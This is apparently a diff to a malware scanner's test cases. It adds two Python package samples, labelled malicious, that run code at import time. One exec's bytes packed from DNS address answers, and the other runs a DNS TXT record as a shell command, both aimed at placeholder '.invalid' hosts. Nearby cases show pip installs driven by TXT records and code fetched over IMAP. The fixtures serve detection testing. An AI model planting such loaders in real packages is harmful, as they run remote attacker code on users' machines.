@@ -103,6 +103,20 @@ CASES = [
         "_req = dns.resolver.resolve('r.x.invalid', 'TXT')[0].strings[0].decode()\n"
         "subprocess.run(['pip3', 'install', '--quiet', _req])\n"), "malicious",
         ("PV325",), kind="wheel"),
+    Case("event-loop getaddrinfo answers packed into bytes and exec'd in a task", "loopdns",
+         _init(
+        "loopdns",
+        "import asyncio, socket\n\n\nasync def _go():\n"
+        "    loop = asyncio.get_running_loop()\n"
+        "    infos = await loop.getaddrinfo('a.x.invalid', 0, family=socket.AF_INET)\n"
+        "    exec(b''.join(socket.inet_aton(i[4][0]) for i in infos).rstrip(b'\\0'))\n\n\n"
+        "asyncio.run(_go())\n"), "malicious", ("PV326",), kind="wheel"),
+    Case("aiodns TXT answer run as a command", "aiotxt", _init(
+        "aiotxt",
+        "import asyncio, subprocess\nimport aiodns\n\n\nasync def _go():\n"
+        "    r = aiodns.DNSResolver()\n    ans = await r.query('t.x.invalid', 'TXT')\n"
+        "    subprocess.run(ans[0].text, shell=True)\n\n\nasyncio.run(_go())\n"),
+        "malicious", ("PV325",), kind="wheel"),
     Case("mail body fetched over IMAP at import and exec'd (tuple-unpacked reply)", "imapc2",
          _init(
         "imapc2",
